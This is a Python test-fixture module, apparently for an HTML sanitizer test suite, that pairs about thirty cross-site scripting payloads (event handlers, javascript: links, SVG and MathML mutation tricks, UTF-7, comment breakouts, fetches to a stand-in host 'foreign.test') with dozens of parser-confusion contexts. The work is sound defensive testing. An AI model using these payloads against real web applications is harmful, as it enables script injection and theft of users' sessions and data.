"""Live markup in places where two parsers may disagree: every payload in every context.

``ran()`` tells that something ran; whatever asks for an address under :data:`LIVE` was fetched or sent to.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from html import escape
from typing import Final

RUN: Final = "ran()"
LIVE: Final = "http://foreign.test/live"
_IMG: Final = f"<img src=x onerror={RUN}>"

PAYLOADS: Final[dict[str, str]] = {
    "picture": _IMG,
    "drawing": f"<svg onload={RUN}></svg>",
    "script": f"<script>{RUN}</script>",
    "script in a drawing": f"<svg><script>{RUN}</script></svg>",
    "script by address": f"<script src={LIVE}/s.js></script>",
    "link": f'<a href=" &#1;jAvA&#9;sc&Tab;ript&colon;{RUN}">click</a>',
    "link in a formula": f"<math><mi xlink:href=javascript:{RUN} href=javascript:{RUN}>x</mi></math>",
    "link to a page": f"<a href='data:text/html,<script>{RUN}</script>'>click</a>",
    "frame": f"<iframe src=javascript:parent.{RUN}></iframe>",
    "frame with its document": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "frame of a site": f"<iframe src={LIVE}/frame></iframe>",
    "object": f'<object data="data:text/html,<script>parent.{RUN}</script>"></object><embed src={LIVE}/embed>',
    "details": f"<details open ontoggle={RUN}><summary>a</summary>b</details>",
    "focus": f"<input autofocus onfocus={RUN}><x tabindex=1 autofocus onfocus={RUN}>",
    "import": f"<style>@import '{LIVE}/i.css';</style>",
    "import, twice": f"<style>@imp@import 'x';ort '{LIVE}/i.css';</style>",
    "import, hidden": f"<style>@\\69 mport url({LIVE}/i.css);</style>",
    "ahead": f"<link rel=preload as=script href={LIVE}/p.js><link rel='stylesheet preload' as=style href={LIVE}/p.css>",
    "refresh": f"<meta http-equiv=' refresh' content='0;url={LIVE}/r'><meta http-equiv=refresh content=0;url={LIVE}/r>",
    "base": f"<base href={LIVE}/><img src=b.png>",
    "form": f"<form action={LIVE}/form><button formaction=javascript:{RUN}>click</button></form>",
    "form, written oddly": f"<form action='http:{LIVE[7:]}/form'><button>a</button></form><form action='ht&Tab;tp:/{LIVE[7:]}/form'></form>",
    "animation": f"<svg><a><animate attributeName=href values=javascript:{RUN} /><set attributeName=href to=javascript:{RUN} /></a>"
    f"<animate onbegin={RUN} attributeName=x dur=1s /></svg>",
    "use": f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{RUN}' /></svg>#x\" /></svg>",
    "media": f"<video src=x onerror={RUN}><source onerror={RUN}></video>",
    "page": f"<body onload={RUN} onpageshow={RUN} background=javascript:{RUN}>",
    "shadow": f"<div><template shadowrootmode=open>{_IMG}<slot></slot></template>a</div>",
    "odd names": f'<p {{x onclick={RUN} "=1 <b=2 a`b=3 onmouseover={RUN} =onfocus={RUN} :on=4 xmlns:on=5 on\x0cload={RUN}>a</p>',
    "odd characters": f"<img src=x title='&#1;&#xFFFE;&#27;$B' alt=\"&#0;&#xD800;`\" onerror&#x3d;={RUN} onerror\x01={RUN} onerror={RUN}>",
    "every end": f"</style></script></title></textarea></xmp></noscript></noembed></noframes></iframe></template></select></svg></math></table>-->]]>\"'>{_IMG}",
    "comment's end": f"--!>{_IMG}<!-- {_IMG} --!>{_IMG}",
}
"""By what is live in it."""

CONTEXTS: Final[dict[str, str]] = {
    "nothing": "@",
    **{
        f"in {name}": f"<{name}>@</{name.split()[0]}>"
        for name in (
            "p", "svg", "math", "xmp", "noembed", "noframes", "noscript", "textarea", "title", "iframe", "style",
            "template", "select", "object", "video", "button", "a href=/", "nobr", "listing", "pre", "marquee", "dl",
            "ruby", "font", "frameset", "table", "dialog open", "x-y", "o:p", "applet", "picture", "canvas", "option",
            "details open", "details", "label", "form", "script type=text/plain", "legend", "image",
        )
    },
    "in text to the end": "<plaintext>@",
    "style in a drawing": "<svg><style>@</style></svg>",
    "style in a formula": "<math><style>@</style></math>",
    "style in a formula's text": "<math><mtext><style>@</style></mtext></math>",
    "style in a drawing's title": "<svg><title><style>@</style></title></svg>",
    "style in a description": "<svg><desc><style>@</style></desc></svg>",
    "style in a foreign object": "<svg><foreignObject><style>@</style></foreignObject></svg>",
    "style in a list": "<select><style>@</style></select>",
    "style of references": "<svg><style>%</style></svg>",
    "formula, table, glyph, style": "<math><mtext><table><mglyph><style>@</style></table></math>",
    "formula, table, glyph, comment": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;%">',
    "formula, form in a form": "<form><math><mtext></form><form><mglyph><style></math>@",
    "formula as html": '<math><annotation-xml encoding="text/html"><style>@</style></annotation-xml></math>',
    "formula as xhtml": '<math><annotation-xml encoding="application/xhtml+xml"><xmp>@</xmp></annotation-xml></math>',
    "formula as a drawing": "<math><annotation-xml><svg><foreignObject>@</foreignObject></svg></annotation-xml></math>",
    "formula in a cell": "<table><tr><td><math><mi><mglyph><svg><style>@",
    "paragraph ends a drawing": "<svg></p><style><a id='</style>@'>",
    "line ends a drawing": "<svg><br><title><a title='</title>@'>",
    "text in a drawing": "<svg><text><textPath>@</textPath></text></svg>",
    "raw text in a drawing": "<svg><xmp>@</xmp><noscript>@</noscript><iframe>@</iframe></svg>",
    "title in a drawing": "<svg><title>@</title></svg>",
    "script in a drawing": "<svg><script><!--<script>@</script>--></script></svg>",
    "drawing's characters": "<svg><![CDATA[@]]></svg>",
    "drawing's comment": "<svg><!--@--></svg>",
    "characters in html": "<p><![CDATA[@]]>",
    "comment": "<p><!--@-->",
    "comment without a beginning": "<p><!-->@-->",
    "comment with a dash": "<p><!--->@-->",
    "comment with a mark": "<p><!-- --!>@-->",
    "comment in a comment": "<p><!-- <!-- > @ --> -->",
    "declaration": "<p><!@>",
    "instruction": "<p><?x @?>",
    "bogus end": "<p></ @>",
    "attribute": '<p title="%">a</p>',
    "attribute of the other quote": "<p title='%'>a</p>",
    "attribute without quotes": "<p title=@>a</p>",
    "attribute that ends raw text": '<noscript><p title="</noscript>@"></noscript>',
    "attribute that ends a style": '<style><p title="</style>@"></style>',
    "attribute that ends an xmp": '<xmp><p title="</xmp>%"></xmp><svg><style><p title="</style>@"></style></svg>',
    "document in a frame": '<iframe srcdoc="%"></iframe>',
    "document in a frame in a frame": '<iframe srcdoc="<iframe srcdoc=\'%\'></iframe>"></iframe>',
    "open shadow": "<div><template shadowrootmode=open><style>@</style>@</template></div>",
    "closed shadow": "<div><template shadowrootmode=closed>@<slot></slot></template>@</div>",
    "template in a template": "<template><template>@</template></template>",
    "cell": "<table><tr><td>@</td></tr></table>",
    "row": "<table><tr>@</tr></table>",
    "caption": "<table><caption><svg><title><style>@",
    "columns": "<table><colgroup>@</colgroup></table>",
    "links in links": "<a href=/a><a href=/b>@</a></a>",
    "marks across blocks": "<b><p><i></b>@</p></i>",
    "deep": "<div>" * 520 + "<svg><style>@",
    "deep formula": "<math><mrow>" * 300 + "<mtext><style>@",
    "before the document": "@<!doctype html><html><head><title>t</title></head><body>a",
    "in the head": "<head>@</head>",
    "after the head": "</head>@<body>a",
    "after the body": "<p>a</p></body>@",
    "after the document": "<p>a</p></body></html>@",
    "odd alphabet": "<meta charset=iso-2022-jp><p title='\x1b$B'>@<p title='\x1b(B%'>",
    "encoding of few bits": "<meta http-equiv=content-type content='text/html;charset=utf-7'>+ADw-script+AD4-ran()+ADw-/script+AD4-@",
    "code": "<pre><code>@</code></pre><p><code>%</code>",
    "text": "<p>%</p>",
    "text in a code block": "<pre>```\n%\n```\n</pre>",
    "code in a definition": "<dl><dt>a</dt><dd><pre>%\n\n%</pre></dd></dl>",
    "code in a list in a definition": "<dl><dd><ol><li>a</li><li><pre>%\n\n%</pre></li></ol></dd></dl>",
    "code in a list that begins with 5": "<ul><li>a<ol start=5><li><pre>%\n\n%</pre></li></ol></li></ul>",
    "odd line ends in code in a quote": "<blockquote><pre>a&#13;%&#13;&#13;%&#12;%\u2028%\x85%</pre></blockquote>",
    "odd line ends in code in an item": "<ul><li><pre>a&#13;%&#13;&#13;%</pre></li></ul>",
    "words of a link": "<p><a href=/a>](javascript:ran()) %</a>",
    "words of a picture": "<p><img src=/a alt='](javascript:ran()) %'>",
    "formula's source": "<p><math><semantics><mi>x</mi><annotation encoding=application/x-tex>%</annotation></semantics></math>",
    "cell of text": "<table><tr><th>a<th>b<tr><td>%<td>|%|<tr><td>c<td>d</table>",
}  # fmt: skip
"""By the name of the place: ``@`` stands for the payload, ``%`` for the payload with its signs as references."""


def markup_of(context: str, payload: str) -> str:
    """The payload in the context, between paragraphs."""
    live = PAYLOADS[payload]
    inner = re.sub("[@%]", lambda sign: live if sign[0] == "@" else escape(live), CONTEXTS[context])
    return f"<p>Before it.</p>\n{inner}\n<p>After it.</p>"


def all_markup() -> Iterator[tuple[str, str]]:
    """Name and markup of each."""
    for context in CONTEXTS:
        for payload in PAYLOADS:
            yield f"{payload}, {context}", markup_of(context, payload)


def some_markup(of_context: int) -> Iterator[tuple[str, str]]:
    """Every context with so many payloads, and every payload: those that follow where the last context ended."""
    names = list(PAYLOADS)
    for place, context in enumerate(CONTEXTS):
        for number in range(of_context):
            payload = names[(place * of_context + number) % len(names)]
            yield f"{payload}, {context}", markup_of(context, payload)
